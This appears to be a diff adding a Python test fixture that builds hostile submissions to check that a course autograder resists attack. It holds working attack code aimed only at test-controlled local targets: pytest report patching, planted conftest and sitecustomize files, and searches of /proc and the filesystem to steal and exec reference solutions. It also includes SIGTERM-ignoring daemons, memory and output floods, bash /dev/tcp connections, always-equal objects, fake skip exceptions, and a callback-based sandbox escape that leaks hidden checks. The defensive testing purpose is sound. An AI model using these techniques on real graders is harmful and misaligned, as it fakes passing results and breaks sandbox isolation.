@@ -1,0 +1,590 @@
+"""Hostile fixture submissions: code written to attack the grader, one attack each.
+
+Every submission starts from the same *control*: the correct, complete submission for stages 01 and
+07 (see ``grading_fixtures.py``) with the stage-01 same-rank mistake (last wins) and its evidence left
+as it was. Each hostile submission is the control with ONE attack added to its ``forge/`` (appended
+to the module, so the defect stays the same); a sound grader gives every one of them at most the
+control's points on every item, leaks nothing hidden, keeps every write inside the sandbox's
+scratch, leaves no process behind and finishes the batch.
+
+The attacks know what a real attacker could learn: the course folder, the ``--out`` folder and their
+own submission folder are written into their code (as if leaked), and so are a TCP port, a Unix
+socket and an abstract socket that the test listens on. Every trace they leave — a file name, a
+process's command line, bytes on a socket — carries :attr:`HostileContext.token`, so the test can
+find it and clean it up.
+
+=====================  ==============================================================================
+report-patch           at import, patch pytest's reporting (``TestReport``, ``call_and_report``) so
+                       that every report says passed
+plugin-files           ``conftest.py``, ``sitecustomize.py``, ``pytest.ini`` and a fake
+                       ``forgelab/judge/session_plugin.py`` in the submission, all patching reports
+fs-search              at import, read ``/proc/*/cmdline`` (the parent's too), walk ``/`` and the
+                       leaked course path for instructor checks, reference modules, mutants, job and
+                       result files; exec a found reference module, raise found hidden text
+markers                write a marker file everywhere it can: cwd, $HOME, /tmp, /var/tmp, /dev/shm, the
+                       submission folder (absolute path), the course, ``--out``, a sitecustomize.py,
+                       usercustomize.py and a .pth file next to every site-packages
+daemon                 start ``setsid`` sleepers, a ``start_new_session`` child and a double-forked
+                       daemon that ignore SIGTERM and SIGHUP
+memory                 allocate 4 GB, written, on every call (the sandbox allows 1.5 GB)
+flood                  print 100 MB at import
+network                connect to the test's TCP port on 127.0.0.1 (``socket``, ``_socket`` and bash's
+                       ``/dev/tcp``), to a Unix socket in the host's /tmp and to an abstract socket
+huge-exception         raise a 30 MB exception message where the defect shows
+always-equal           return objects whose ``__eq__`` is always True where the defect shows, and
+                       make the module's own classes compare equal to anything
+masquerade             raise exceptions that claim to be ``unittest.SkipTest`` and Hypothesis's
+                       ``UnsatisfiedAssumption`` where the defect shows
+callback-escape        stage 07: through the callable a test hands ``run_suite``, reach the judge's
+                       builtins and run code on the trusted side: mark every row passed, write markers
+callback-leak          stage 07: the same way in, read the instructor checks and the reference
+                       modules on the trusted side and send their lines back in exception messages
+=====================  ==============================================================================
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import textwrap
+from dataclasses import asdict, dataclass
+from pathlib import Path
+
+from grading_fixtures import SAME_RANK_FIND, SAME_RANK_LAST_WINS, break_module, derive_handed_in
+
+HOSTILE_STAGES = ("01", "07")
+CONTROL = "control"
+INSTRUCTIONS = "forge/instructions.py"
+REGRESSION = "forge/prompt_regression.py"
+
+
+@dataclass(frozen=True)
+class HostileContext:
+    token: str  # unique per test session: in every marker name, process command line and socket message
+    course: str  # the course folder that grades (a copy of the repository)
+    out: str  # the --out folder of the grading run
+    submissions: str  # the folder that holds the submissions
+    repo: str  # the course repository the tests run from (read, never written, by the attacks)
+    port: int  # a TCP listener on 127.0.0.1
+    unix_socket: str  # a Unix socket in the host's /tmp
+    abstract_socket: str  # an abstract Unix socket name (without the leading NUL)
+
+    def marker(self, attack: str) -> str:
+        return f"forgelab-hostile-{self.token}-{attack}"
+
+
+# ---------------------------------------------------------------- the attacks (appended to a module)
+
+PRELUDE = '''
+
+# ======== hostile code below: {attack} ========
+_HOSTILE = {context}
+_HOSTILE_MARK = {mark!r}
+
+
+def _hostile_same_rank(instructions):
+    seen = set()
+    for item in instructions:
+        key = (getattr(item, "key", None), RANK.get(getattr(item, "source", None)))
+        if key in seen:
+            return True
+        seen.add(key)
+    return False
+'''
+
+REPORT_PATCH = '''
+def _hostile_patch_pytest():
+    try:
+        import _pytest.reports as reports
+        import _pytest.runner as runner
+    except Exception:
+        return
+    original = reports.TestReport.from_item_and_call.__func__
+
+    def from_item_and_call(cls, item, call):
+        report = original(cls, item, call)
+        report.outcome = "passed"
+        report.longrepr = None
+        return report
+
+    reports.TestReport.from_item_and_call = classmethod(from_item_and_call)
+    reports.BaseReport.passed = property(lambda self: True)
+    reports.BaseReport.failed = property(lambda self: False)
+    original_call = runner.call_and_report
+
+    def call_and_report(item, when, log=True, **kwargs):
+        report = original_call(item, when, log=log, **kwargs)
+        report.outcome = "passed"
+        report.longrepr = None
+        return report
+
+    runner.call_and_report = call_and_report
+
+
+_hostile_patch_pytest()
+'''
+
+FS_SEARCH = '''
+_HOSTILE_FOUND = {}
+
+
+def _hostile_search():
+    import os
+
+    wanted = ("instructor", "solutions", "session-job", "session-report", "job.json", "mutants.toml",
+              "gradebook", "forgelab-judge", "forgelab-grade")
+    candidates = set()
+    for pid in sorted(os.listdir("/proc")) + ["self", str(os.getppid())]:
+        if not pid.isdigit() and pid != "self":
+            continue
+        for what in ("cmdline", "environ"):
+            try:
+                with open(f"/proc/{pid}/{what}", "rb") as handle:
+                    parts = handle.read().split(b"\\0")
+            except OSError:
+                continue
+            for part in parts:
+                text = part.decode(errors="replace").split("=", 1)[-1]
+                if text.startswith("/"):
+                    candidates.add(text)
+    for root in (_HOSTILE["course"], _HOSTILE["repo"], os.getcwd(), os.path.expanduser("~"), "/tmp"):
+        for relative in ("solutions/forge/instructions.py", "solutions/forge/context_selection.py",
+                         "instructor/checks/test_01_instruction_hierarchy.py",
+                         "course/stages/01-instruction-hierarchy/mutants.toml"):
+            candidates.add(os.path.join(root, relative))
+    walked = 0
+    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/etc"}
+    for top, dirs, files in os.walk("/"):
+        dirs[:] = sorted(d for d in dirs if os.path.join(top, d) not in skip and d not in ("site-packages", ".git"))
+        walked += 1
+        if walked > 20000:
+            break
+        for name in files:
+            path = os.path.join(top, name)
+            if any(word in path for word in wanted) and name.endswith((".py", ".json", ".toml", ".md", ".sqlite")):
+                candidates.add(path)
+    for path in sorted(candidates):
+        if os.path.isdir(path):
+            for relative in ("solutions/forge/instructions.py", "instructor/checks/test_01_instruction_hierarchy.py",
+                             "session-job.json", "session-report.json"):
+                joined = os.path.join(path, relative)
+                if os.path.isfile(joined):
+                    path = joined
+                    break
+        if not os.path.isfile(path) or "/sandbox/code/" in path or path.startswith("/proc/"):
+            continue
+        try:
+            with open(path, encoding="utf-8", errors="replace") as handle:
+                _HOSTILE_FOUND[path] = handle.read(200000)
+        except OSError:
+            continue
+    print("hostile search found:", sorted(_HOSTILE_FOUND))
+    for path, text in sorted(_HOSTILE_FOUND.items()):
+        if path.endswith("solutions/forge/instructions.py"):
+            exec(compile(text, "found-reference", "exec"), globals())  # the reference replaces our defect
+
+
+_hostile_search()
+_hostile_explain = explain
+
+
+def explain(instructions):
+    if _HOSTILE_FOUND and _hostile_same_rank(instructions):
+        lines = [line.strip() for text in _HOSTILE_FOUND.values() for line in text.splitlines() if len(line.strip()) > 30]
+        raise ValueError(" | ".join(lines)[:1900])
+    return _hostile_explain(instructions)
+'''
+
+MARKERS = '''
+def _hostile_mark(tag):
+    import os
+    import site
+    import sys
+
+    name = _HOSTILE_MARK + "-" + tag
+    here = os.path.dirname(os.path.abspath(__file__))
+    places = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", here, os.path.dirname(here),
+              _HOSTILE["course"], os.path.join(_HOSTILE["course"], "instructor", "checks"),
+              os.path.join(_HOSTILE["course"], "tests", "stages"), _HOSTILE["out"],
+              os.path.join(_HOSTILE["out"], "feedback"), _HOSTILE["submissions"],
+              os.path.join(_HOSTILE["submissions"], "markers"), os.path.join(_HOSTILE["submissions"], "markers", "forge"),
+              os.path.join(_HOSTILE["submissions"], "control")]
+    for place in places:
+        try:
+            with open(os.path.join(place, name), "w") as handle:
+                handle.write(_HOSTILE_MARK)
+        except OSError:
+            pass
+    folders = list(sys.path)
+    try:
+        folders += site.getsitepackages() + [site.getusersitepackages()]
+    except Exception:
+        pass
+    for folder in sorted(set(folders)):
+        if not folder:
+            continue
+        for file in ("sitecustomize.py", "usercustomize.py"):
+            try:
+                with open(os.path.join(folder, file), "x") as handle:
+                    handle.write("# " + name + "\\n")
+            except OSError:
+                pass
+        try:
+            with open(os.path.join(folder, name + ".pth"), "w") as handle:
+                handle.write("# " + name + "\\n")
+        except OSError:
+            pass
+
+
+_hostile_mark("import")
+_hostile_explain = explain
+
+
+def explain(instructions):
+    _hostile_mark("call")
+    return _hostile_explain(instructions)
+'''
+
+DAEMON = '''
+def _hostile_daemons():
+    import os
+    import subprocess
+    import sys
+
+    sleep = ("import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
+             "signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(600)")
+    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+    try:
+        subprocess.Popen(["setsid", sys.executable, "-c", sleep, _HOSTILE_MARK + "-setsid"], **quiet)
+    except OSError:
+        pass
+    try:
+        subprocess.Popen([sys.executable, "-c", sleep, _HOSTILE_MARK + "-session"], start_new_session=True, **quiet)
+    except OSError:
+        pass
+    try:
+        pid = os.fork()
+    except OSError:
+        return
+    if pid == 0:
+        try:
+            os.setsid()
+            if os.fork() == 0:
+                os.execv(sys.executable, [sys.executable, "-c", sleep, _HOSTILE_MARK + "-doublefork"])
+        finally:
+            os._exit(0)
+    os.waitpid(pid, 0)
+
+
+_hostile_daemons()
+'''
+
+MEMORY = '''
+_hostile_explain = explain
+
+
+def explain(instructions):
+    hog = []
+    for _ in range(16):  # 4 GB, every page written
+        hog.append(b"\\x01" * (256 * 1024 * 1024))
+    hog.clear()
+    return _hostile_explain(instructions)
+'''
+
+FLOOD = '''
+def _hostile_flood():
+    import sys
+
+    block = ("F" * 1023 + "\\n") * 1024
+    for _ in range(100):  # 100 MB
+        sys.stdout.write(block)
+    sys.stdout.flush()
+
+
+_hostile_flood()
+'''
+
+NETWORK = '''
+def _hostile_network():
+    import socket
+    import subprocess
+
+    message = (_HOSTILE_MARK + "\\n").encode()
+
+    def tcp():
+        with socket.create_connection(("127.0.0.1", _HOSTILE["port"]), timeout=3) as connection:
+            connection.sendall(message)
+
+    def raw():
+        import _socket
+
+        connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+        connection.settimeout(3)
+        connection.connect(("127.0.0.1", _HOSTILE["port"]))
+        connection.send(message)
+        connection.close()
+
+    def unix():
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
+            connection.settimeout(3)
+            connection.connect(_HOSTILE["unix_socket"])
+            connection.sendall(message)
+
+    def abstract():
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
+            connection.settimeout(3)
+            connection.connect("\\0" + _HOSTILE["abstract_socket"])
+            connection.sendall(message)
+
+    def dev_tcp():
+        subprocess.run(["bash", "-c", f"echo {_HOSTILE_MARK} > /dev/tcp/127.0.0.1/{_HOSTILE['port']}"],
+                       capture_output=True, timeout=10)
+
+    for attempt in (tcp, raw, unix, abstract, dev_tcp):
+        try:
+            attempt()
+        except Exception:
+            pass
+
+
+_hostile_network()
+'''
+
+HUGE_EXCEPTION = '''
+_hostile_explain = explain
+
+
+def explain(instructions):
+    if _hostile_same_rank(instructions):
+        raise ValueError("hostile " + "H" * 30_000_000)
+    return _hostile_explain(instructions)
+'''
+
+ALWAYS_EQUAL = '''
+class _AlwaysEqual(dict):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = None
+
+
+class _AlwaysEqualObject:
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __hash__(self):
+        return 0
+
+    def __iter__(self):
+        return iter(())
+
+    def __len__(self):
+        return 0
+
+
+Instruction.__eq__ = lambda self, other: True
+Rejection.__eq__ = lambda self, other: True
+_hostile_resolve = resolve
+_hostile_explain = explain
+
+
+def resolve(instructions):
+    if _hostile_same_rank(instructions):
+        return _AlwaysEqualObject(), _AlwaysEqualObject()
+    return _hostile_resolve(instructions)
+
+
+def explain(instructions):
+    if _hostile_same_rank(instructions):
+        return _AlwaysEqual(), _AlwaysEqualObject()
+    return _hostile_explain(instructions)
+'''
+
+MASQUERADE = '''
+class SkipTest(Exception):
+    pass
+
+
+class UnsatisfiedAssumption(Exception):
+    pass
+
+
+SkipTest.__module__ = "unittest.case"
+UnsatisfiedAssumption.__module__ = "hypothesis.errors"
+_hostile_explain = explain
+
+
+def explain(instructions):
+    if _hostile_same_rank(instructions):
+        if len(instructions) % 2:
+            raise UnsatisfiedAssumption("this example does not count")
+        raise SkipTest("this test does not apply to me")
+    return _hostile_explain(instructions)
+'''
+
+CALLBACK = '''
+_HOSTILE_USED = []
+
+
+def _hostile_trusted_builtins(invoke):
+    """The judge's builtins, reached through the handle of a callable that the test passed us."""
+    server = object.__getattribute__(invoke, "_server")
+    handle = object.__getattribute__(invoke, "_handle")
+    found = server.callback({{"op": "getattr", "handle": handle, "name": "__builtins__"}}, (), {{}})
+    return found, server, handle
+
+
+_hostile_run_suite = run_suite
+
+
+def run_suite(cases, invoke):
+    {body}
+    return _hostile_run_suite(cases, invoke)
+'''
+
+CALLBACK_ESCAPE_BODY = '''
+    if not _HOSTILE_USED:
+        _HOSTILE_USED.append(1)
+        try:
+            builtins_, _, _ = _hostile_trusted_builtins(invoke)
+            builtins_["exec"](_HOSTILE_PAYLOAD, {})
+        except BaseException as error:
+            print("hostile escape failed:", type(error).__name__, error)
+'''
+
+ESCAPE_PAYLOAD = '''
+import json as _json
+import os as _os
+import sys as _sys
+
+_plugin = _sys.modules.get("forgelab.judge.session_plugin")
+
+
+class _Forger:
+    def __getattr__(self, name):
+        return getattr(_json, name)
+
+    def dumps(self, value, **options):
+        if isinstance(value, dict) and "rows" in value:
+            for row in value["rows"]:
+                row.update(outcome="passed", cause="", detail="", limit=None)
+            value["import_problems"] = {}
+            value["collect_errors"] = []
+        return _json.dumps(value, **options)
+
+
+if _plugin is not None:
+    _plugin.json = _Forger()
+for _place in (_os.getcwd(), "/tmp", _HOSTILE["course"], _HOSTILE["out"], _HOSTILE["submissions"]):
+    try:
+        with open(_os.path.join(_place, _HOSTILE_MARK + "-trusted-side"), "w") as _handle:
+            _handle.write(_HOSTILE_MARK)
+    except OSError:
+        pass
+'''
+
+CALLBACK_LEAK_BODY = '''
+    if not _HOSTILE_USED:
+        _HOSTILE_USED.append([])
+        try:
+            builtins_, _, _ = _hostile_trusted_builtins(invoke)
+            for relative in ("instructor/checks/test_07_prompt_regression_suite.py",
+                             "instructor/checks/test_01_instruction_hierarchy.py",
+                             "solutions/forge/context_selection.py"):
+                try:
+                    text = builtins_["eval"]("open(" + repr(_HOSTILE["course"] + "/" + relative) + ").read()")
+                except BaseException:
+                    continue
+                _HOSTILE_USED[0].extend(line.strip() for line in str(text).splitlines()
+                                        if len(line.strip()) > 40 and not line.strip().startswith(("#", '"""', "from ", "import ")))
+        except BaseException as error:
+            print("hostile leak failed:", type(error).__name__, error)
+    if _HOSTILE_USED[0]:
+        raise ValueError(_HOSTILE_USED[0].pop(0)[:170])  # one hidden line per call: each failing test shows one
+'''
+
+PLUGIN_FILE = '''"""A plugin file a grader might load by accident: it marks every test passed."""
+try:
+    import _pytest.reports as _reports
+
+    _reports.BaseReport.passed = property(lambda self: True)
+    _reports.BaseReport.failed = property(lambda self: False)
+except Exception:
+    pass
+'''
+
+
+ATTACKS: dict[str, tuple[str, str]] = {
+    "report-patch": (INSTRUCTIONS, REPORT_PATCH),
+    "plugin-files": (INSTRUCTIONS, ""),
+    "fs-search": (INSTRUCTIONS, FS_SEARCH),
+    "markers": (INSTRUCTIONS, MARKERS),
+    "daemon": (INSTRUCTIONS, DAEMON),
+    "memory": (INSTRUCTIONS, MEMORY),
+    "flood": (INSTRUCTIONS, FLOOD),
+    "network": (INSTRUCTIONS, NETWORK),
+    "huge-exception": (INSTRUCTIONS, HUGE_EXCEPTION),
+    "always-equal": (INSTRUCTIONS, ALWAYS_EQUAL),
+    "masquerade": (INSTRUCTIONS, MASQUERADE),
+    "callback-escape": (REGRESSION, CALLBACK.format(body=CALLBACK_ESCAPE_BODY.strip())),
+    "callback-leak": (REGRESSION, CALLBACK.format(body=CALLBACK_LEAK_BODY.strip())),
+}
+
+
+def _append(path: Path, attack: str, context: HostileContext, code: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    prelude = PRELUDE.format(attack=attack, context=json.dumps(asdict(context)), mark=context.marker(attack))
+    if path.name != "instructions.py":  # _hostile_same_rank needs RANK, which only stage 01's module has
+        prelude = prelude.split("\n\ndef _hostile_same_rank", 1)[0] + "\n"
+    extra = ""
+    if attack == "callback-escape":
+        payload = (f"_HOSTILE = {json.dumps(asdict(context))}\n_HOSTILE_MARK = {context.marker(attack)!r}\n"
+                   + ESCAPE_PAYLOAD)
+        extra = f"\n_HOSTILE_PAYLOAD = {payload!r}\n"
+    path.write_text(text + prelude + extra + textwrap.dedent(code), encoding="utf-8")
+
+
+def _plugin_files(root: Path) -> None:
+    for relative in ("conftest.py", "forge/conftest.py", "transfer/conftest.py", "tests/conftest.py",
+                     "tests/stages/conftest.py", "sitecustomize.py", "forge/sitecustomize.py",
+                     "forgelab/__init__.py", "forgelab/judge/__init__.py", "forgelab/judge/session_plugin.py",
+                     "forgelab/pytest_plugin.py", "_pytest/__init__.py"):
+        path = root / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(PLUGIN_FILE, encoding="utf-8")
+    (root / "pytest.ini").write_text("[pytest]\naddopts = -p conftest -p no:terminal\n", encoding="utf-8")
+    (root / "forge" / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n", encoding="utf-8")
+
+
+def make_control(base: Path, destination: Path) -> Path:
+    """The correct submission with the stage-01 same-rank mistake; evidence as it was (not checked again)."""
+    folder = derive_handed_in(base, destination)
+    break_module(folder, SAME_RANK_FIND, SAME_RANK_LAST_WINS)
+    return folder
+
+
+def build_hostile(folder: Path, base: Path, context: HostileContext) -> dict[str, Path]:
+    """The control and one submission per attack, under ``folder`` (which must be ``context.submissions``)."""
+    assert folder == Path(context.submissions)
+    made = {CONTROL: make_control(base, folder / CONTROL)}
+    for attack, (module, code) in ATTACKS.items():
+        target = make_control(base, folder / attack)
+        if attack == "plugin-files":
+            _plugin_files(target)
+        else:
+            _append(target / module, attack, context, code)
+        made[attack] = target
+    return made
+
+
+def remove_from(folder: Path) -> None:
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+__all__ = ["ATTACKS", "CONTROL", "HOSTILE_STAGES", "HostileContext", "build_hostile"]
